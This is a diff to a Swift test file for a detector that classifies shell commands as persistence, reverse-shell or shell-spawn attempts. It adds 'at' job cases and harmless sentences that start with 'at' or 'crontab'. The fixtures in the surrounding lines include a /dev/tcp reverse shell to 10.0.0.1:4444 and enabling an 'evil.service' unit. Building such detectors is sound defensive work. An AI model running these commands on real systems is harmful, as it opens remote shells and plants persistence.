@@ -44,6 +44,11 @@ import Testing
     expect("crontab -l", nil),
     expect("crontab /tmp/jobs", "persistence", 0, 17, 0.8, ["crontab"]),
     expect("echo id | at now", "persistence", 10, 16, 0.6, ["at_job"]),
+    expect("at now + 1 minute", "persistence", 0, 17, 0.6, ["at_job"]),
+    expect("at -f /tmp/job.sh midnight", "persistence", 0, 26, 0.6, ["at_job"]),
+    // Sentences that start with the program's name, outside its grammar.
+    expect("at what time should I get my oil changed next", nil),
+    expect("crontab is confusing, can you explain it", nil),
     expect("systemctl enable evil.service", "persistence", 0, 29, 0.6, ["systemctl_enable"]),
     expect("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell", 0, 38, 0.975, ["dev_tcp", "shell_spawn"]),
     expect("sh 1>&0 2>&0", "shell_spawn", 0, 12, 0.8, ["shell_redirected"]),
